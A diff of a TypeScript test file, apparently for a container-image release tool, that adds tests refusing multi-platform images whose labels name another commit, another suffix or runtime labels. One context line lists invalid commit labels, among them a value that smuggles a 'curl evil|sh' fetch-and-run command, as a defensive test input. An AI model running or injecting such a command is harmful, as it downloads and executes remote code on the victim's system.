@@ -179,6 +179,47 @@ describe('what the image says of itself', () => {
     },
   )
 
+  describe('an index whose first platform is right', () => {
+    const index = (otherLabels: readonly Record<string, string>[]) => {
+      const it = world()
+      const digest = it.registry.push('index', { [OCI_LABEL.revision]: REVISION })
+      const image = it.registry.images.get(digest)
+      if (image) it.registry.images.set(digest, { ...image, otherLabels })
+      return { it, digest }
+    }
+    const other = 'd'.repeat(40)
+
+    it('and whose second is of another commit is refused, by digest and under the release tag', async () => {
+      const { it, digest } = index([{}, { [OCI_LABEL.revision]: other }])
+      const given = await release(releaseRequest({ digest, revision: undefined }), it.ports)
+      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-commit' })
+      expect(given.reason).toMatch(new RegExp(`${other}.*${REVISION}`))
+      it.registry.tagged.set(TAG, digest)
+      const tagged = await release(releaseRequest(), it.ports)
+      expect(tagged).toMatchObject({ outcome: 'failed', reasonCode: 'tag-conflict' })
+      expect(smokes(it.calls)).toEqual([])
+    })
+
+    it('and whose second was built for another suffix is refused', async () => {
+      const labels = { [OCI_LABEL.revision]: REVISION, [LABEL.release]: `registry.test/app:${TAG}-worker` }
+      const { it, digest } = index([labels])
+      const given = await release(releaseRequest({ digest }), it.ports)
+      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'image-of-another-suffix' })
+    })
+
+    it('and whose second carries labels of running things is refused', async () => {
+      const { it, digest } = index([{ 'dev.immutable-deploy.expires': '2000-01-01T00:00:00Z' }])
+      const given = await release(releaseRequest({ digest }), it.ports)
+      expect(given).toMatchObject({ outcome: 'failed', reasonCode: 'runtime-labels' })
+    })
+
+    it('and whose second says the same is released', async () => {
+      const { it, digest } = index([{ [OCI_LABEL.revision]: REVISION }])
+      const ports = await pulls(it, digest, 'index')
+      expect(await release(releaseRequest({ digest }), ports)).toMatchObject({ outcome: 'healthy', digest })
+    })
+  })
+
   it.each(['main', 'A'.repeat(40), `${'a'.repeat(40)};curl evil|sh`, '../../../user'])(
     'the label %s names no commit',
     async (label) => {
